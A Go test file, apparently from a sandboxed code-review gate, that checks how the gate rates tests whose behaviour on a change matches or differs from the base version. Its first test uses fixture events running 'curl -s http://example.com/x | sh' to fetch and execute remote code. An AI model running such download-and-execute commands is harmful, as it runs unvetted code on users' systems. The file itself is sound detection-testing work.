package execute_test

import (
	"strings"
	"testing"
	"time"

	"github.com/aigate/gate/gate"
	"github.com/aigate/gate/gate/execute"
	"github.com/aigate/gate/sandbox"
)

func TestWhatTestsDoOnTheBaseAsWellIsANote(t *testing.T) {
	pipe := sandbox.Event{Action: sandbox.ActionExec, Object: "/bin/sh", Args: []string{"sh", "-c", "curl -s http://example.com/x | sh"}, Count: 1}
	other := sandbox.Event{Action: sandbox.ActionExec, Object: "/bin/sh", Args: []string{"sh", "-c", "curl -s http://example.net/y | sh"}, Count: 1}
	late := sandbox.Capture{Path: "/tmp/late.py", Data: []byte("print('late')")}
	more := sandbox.Capture{Path: "/tmp/more.py", Data: []byte("print('more')")}
	tests := "def test(): pass\n"
	behaves := func(captures []sandbox.Capture, events ...sandbox.Event) sandbox.Behaviour {
		return sandbox.Behaviour{Recorder: "fake", Events: events, Captures: captures}
	}
	for name, tt := range map[string]struct {
		base       map[string]string
		head, then sandbox.Behaviour // of the tests
		worst      gate.Severity
		children   int
	}{
		"the same":                  {map[string]string{"a.py": "print(0)\n", "test_a.py": tests}, behaves([]sandbox.Capture{late}, pipe), behaves([]sandbox.Capture{late}, pipe), gate.SeverityNote, 0},
		"something else as well":    {map[string]string{"a.py": "print(0)\n", "test_a.py": tests}, behaves([]sandbox.Capture{late, more}, pipe, other), behaves([]sandbox.Capture{late}, pipe), gate.SeverityDangerous, 1},
		"the base does less":        {map[string]string{"a.py": "print(0)\n", "test_a.py": tests}, behaves([]sandbox.Capture{late}, pipe), behaves(nil), gate.SeverityDangerous, 1},
		"the base has no such test": {map[string]string{"a.py": "print(0)\n"}, behaves([]sandbox.Capture{late}, pipe), behaves([]sandbox.Capture{late}, pipe), gate.SeverityDangerous, 1},
		"there is no base":          {nil, behaves([]sandbox.Capture{late}, pipe), behaves([]sandbox.Capture{late}, pipe), gate.SeverityDangerous, 1},
	} {
		t.Run(name, func(t *testing.T) {
			r := &fakeRunner{}
			r.answer = func(spec sandbox.Spec) (sandbox.Result, error) {
				res := sandbox.Result{Status: sandbox.Exited, Behaviour: behaves(nil)}
				input, err := unpack(spec)
				if strings.Contains(strings.Join(spec.Argv, " "), "test_a.py") {
					res.Behaviour = tt.head
					if input["a.py"] == tt.base["a.py"] {
						res.Behaviour = tt.then
					}
				}
				return res, err
			}
			s := fakeStage(t, r, func(o *execute.Options) { o.Policy.Conditions = 0 })
			change := changeOf(files(map[string]string{"a.py": program, "test_a.py": tests}), "a.py")
			if tt.base != nil {
				change.Base = files(tt.base)
			}
			out, found := executions(t, s, change)
			if got := found.Worst("a.py"); got != tt.worst || len(out.Children) != tt.children {
				t.Errorf("%v with %d pieces of code, want %v with %d: %+v", got, len(out.Children), tt.worst, tt.children, found.Of("a.py"))
			}
			if tt.worst == gate.SeverityNote && !strings.HasSuffix(found.Of("a.py")[0].Evidence, "on the base they do the same") {
				t.Errorf("%+v", found.Of("a.py"))
			}
		})
	}
}

func TestTestsThatEndOnTheBaseAsWellAreANote(t *testing.T) {
	for name, tt := range map[string]struct {
		head, base sandbox.Status
		worst      gate.Severity
	}{
		"no memory on either":     {sandbox.OOM, sandbox.OOM, gate.SeverityNote},
		"no memory on the head":   {sandbox.OOM, sandbox.Exited, gate.SeveritySuspicious},
		"another end on the base": {sandbox.OOM, sandbox.Killed, gate.SeveritySuspicious},
	} {
		t.Run(name, func(t *testing.T) {
			r := &fakeRunner{}
			r.answer = func(spec sandbox.Spec) (sandbox.Result, error) {
				res := sandbox.Result{Status: sandbox.Exited}
				input, err := unpack(spec)
				if strings.Contains(strings.Join(spec.Argv, " "), "test_a.py") {
					if res.Status = tt.head; input["a.py"] == "print(0)\n" {
						res.Status = tt.base
					}
				}
				return res, err
			}
			s := fakeStage(t, r, func(o *execute.Options) { o.Policy.Conditions = 0 })
			tests := "def test(): pass\n"
			change := changeOf(files(map[string]string{"a.py": program, "test_a.py": tests}), "a.py")
			change.Base = files(map[string]string{"a.py": "print(0)\n", "test_a.py": tests})
			_, found := executions(t, s, change)
			if got := found.Worst("a.py"); got != tt.worst {
				t.Errorf("%v, want %v: %+v", got, tt.worst, found.Of("a.py"))
			}
		})
	}
}

func TestTestsThatAreAsSlowOnTheBaseAreANote(t *testing.T) {
	const tests = "def test_1(): pass\n\n\ndef test_2(): pass\n"
	const old = "print(0)\n"
	told := func(left string) *string { s := `{"running": [], "total": 3, "ended": 1, ` + left + `}`; return &s }
	left, done := told(`"near": false, "edited": true`), told(`"near": true`)
	for name, tt := range map[string]struct {
		head, base *string // what tests tell at the end of their time, nil where they end before
		paths      []string
		all        bool // every line of the tests is new
		gap        bool
	}{
		"on either":                               {head: left, base: left},
		"with edited tests that ended":            {head: left, base: left, paths: []string{"a.py", "test_a.py"}},
		"on the head only":                        {head: left, gap: true},
		"the base's nearest had ended":            {head: left, base: done, gap: true},
		"new code was running":                    {head: told(`"near": true, "running": ["a.py"]`), base: left, gap: true},
		"an edited test had not ended":            {head: told(`"near": false, "edited": false`), base: left, paths: []string{"a.py", "test_a.py"}, gap: true},
		"all tests of the file are of the change": {head: left, base: left, paths: []string{"a.py", "test_a.py"}, all: true, gap: true},
	} {
		t.Run(name, func(t *testing.T) {
			r := &fakeRunner{}
			r.answer = func(spec sandbox.Spec) (sandbox.Result, error) {
				res := sandbox.Result{Status: sandbox.Exited}
				input, err := unpack(spec)
				if strings.Contains(strings.Join(spec.Argv, " "), "test_a.py") {
					says := tt.head
					if input["a.py"] == old {
						says = tt.base
					}
					if says != nil {
						res.Duration = time.Minute
						res.Files = []sandbox.File{{Path: ".gate-coverage/tests-running-1", Data: []byte(*says)}}
					}
				}
				return res, err
			}
			s := fakeStage(t, r, func(o *execute.Options) {
				o.Policy.Conditions, o.Required, o.Policy.TestTimeout = 0, true, time.Minute
			})
			change := changeOf(files(map[string]string{"a.py": program, "test_a.py": tests}), append(tt.paths, "a.py")[:max(1, len(tt.paths))]...)
			for _, target := range change.Targets {
				if target.Path == "test_a.py" && !tt.all {
					target.Lines = gate.OnlyLines(gate.LineRange{1, 1})
				}
			}
			change.Base = files(map[string]string{"a.py": old, "test_a.py": tests})
			out, _ := executions(t, s, change)
			if got := len(out.Incomplete) > 0; got != tt.gap {
				t.Errorf("incomplete: %v, want %v", out.Incomplete, tt.gap)
			}
			var notes []string
			for _, u := range out.Executions["a.py"].Units {
				notes = append(notes, u.Reason)
			}
			if said := strings.Contains(strings.Join(notes, "\n"), "on the base they had not either"); said == tt.gap {
				t.Errorf("%q", notes)
			}
		})
	}
}
